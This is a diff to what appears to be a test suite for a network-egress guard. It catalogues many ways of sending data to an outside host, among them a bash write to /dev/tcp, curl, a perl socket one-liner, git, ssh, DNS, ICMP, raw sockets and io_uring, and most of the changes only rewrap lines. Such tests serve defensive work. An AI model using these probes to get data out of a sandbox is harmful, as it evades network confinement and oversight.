@@ -167,7 +167,8 @@ TCP = (
     _tcp("fast-open-message", "socket.socket().sendmsg([WORD], [], 0x20000000, (OUT, PORT))"),
     _tcp("fast-open-messages",
          _MESSAGE + "one = socket.socket(); sendmmsg(one, (address(OUT, PORT),), flags=0x20000000)"),
-    _tcp("fast-open-option", "one = socket.socket(); one.setsockopt(6, 30, 1); one.connect((OUT, PORT)); one.send(WORD)"),
+    _tcp("fast-open-option", "one = socket.socket(); one.setsockopt(6, 30, 1)\n"
+         "one.connect((OUT, PORT)); one.send(WORD)"),
     _tcp("fast-open-mptcp", _MPTCP.format(family=2) + "one.sendto(WORD, 0x20000000, (OUT, PORT))"),
     _tcp("splice", _SPLICE),
     _tcp("service", "speak(('127.0.0.1', SERVICE))", "127.0.0.1:{service}", has_service=True),
@@ -177,7 +178,8 @@ TCP = (
          "127.0.0.1:{service}", has_service=True),
     _tcp("curl", "subprocess.run(['curl', '-sm', '4', '--noproxy', '*', f'http://{OUT}:{PORT}/'])"),
     _tcp("bash", "subprocess.run(['bash', '-c', f'echo {WORD.decode()} > /dev/tcp/{OUT}/{PORT}'])"),
-    _tcp("perl", "subprocess.run(['perl', '-MIO::Socket::INET', '-e', f'IO::Socket::INET->new(\"{OUT}:{PORT}\")->send(1)'])"),
+    _tcp("perl", "text = f'IO::Socket::INET->new(\"{OUT}:{PORT}\")->send(1)'\n"
+         "subprocess.run(['perl', '-MIO::Socket::INET', '-e', text])"),
     _tcp("git", "subprocess.run(['git', 'ls-remote', f'git://{OUT}:{PORT}/{WORD.decode()}'], timeout=5)"),
     _tcp("ssh", "subprocess.run(['ssh', '-F', '/dev/null', '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=3', '-p',"
          " str(PORT), OUT], stdin=subprocess.DEVNULL)"),
@@ -247,7 +249,7 @@ DNS = (
     _dns("dns-odd-port", "socket.socket(2, 2).sendto(question(NAME), (OUT, PORT))", "{out}:{port}"),
     _dns("dns-6", _NO_6 + "socket.socket(10, 2).sendto(question(NAME), (OUT6, 53))"),
     _dns("dns-no-question", "socket.socket(2, 2).sendto(WORD, ('192.0.2.53', 53))", "192.0.2.53:53",
-         silent={"netns": "what is no question, and is sent to the port for questions, ends at the guard's name server"}),
+         silent={"netns": "what is sent to the port for names ends at the guard's name server, which drops it"}),
     _dns("dns-multicast", "socket.socket(2, 2).sendto(question(NAME), ('224.0.0.251', 5353))", "224.0.0.251:5353"),
 )  # fmt: skip
 
@@ -277,7 +279,8 @@ def _low(
 
 RAW = (
     _low("ping", "ICMP", _ECHO + _ECHO_SOCKET + "one.sendto(echo, (OUT, 0))", "{out}:0", asked=True),
-    _low("ping-connected", "ICMP", _ECHO + _ECHO_SOCKET + "one.connect((OUT, 0)); one.send(echo)", "{out}:0", asked=True),
+    _low("ping-connected", "ICMP", _ECHO + _ECHO_SOCKET + "one.connect((OUT, 0)); one.send(echo)", "{out}:0",
+         asked=True),
     _low("ping-6", "ICMP", _NO_6 + _ECHO + "socket.socket(10, 2, 58).sendto(b'\\x80' + echo[1:], (OUT6, 0))",
          "[2001:db8::10]:0", asked=True),
     _low("raw-echo", "raw", _RAW + _ECHO + "socket.socket(2, 3, 1).sendto(echo, (OUT, 0))"),
@@ -349,7 +352,8 @@ one.send(WORD)
 CALLS = (
     Way("ring", "io_uring", _RING + "one = socket.socket(); submit(16, one.fileno(), ctypes.addressof(to), 16)",
         silent=_UNASKED),
-    Way("ring-message", "io_uring", _MESSAGE + _RING + "one = socket.socket(2, 2); head, keep = message(address(OUT, PORT))\n"
+    Way("ring-message", "io_uring", _MESSAGE + _RING + "one = socket.socket(2, 2)\n"
+        "head, keep = message(address(OUT, PORT))\n"
         "head = ctypes.create_string_buffer(head); submit(9, one.fileno(), ctypes.addressof(head))", silent=_UNASKED),
     Way("old-call", "32 bit calls", _OLD + "one = socket.socket()\n"
         "low[96:108] = struct.pack('=III', one.fileno(), at + 64, 16)\n"
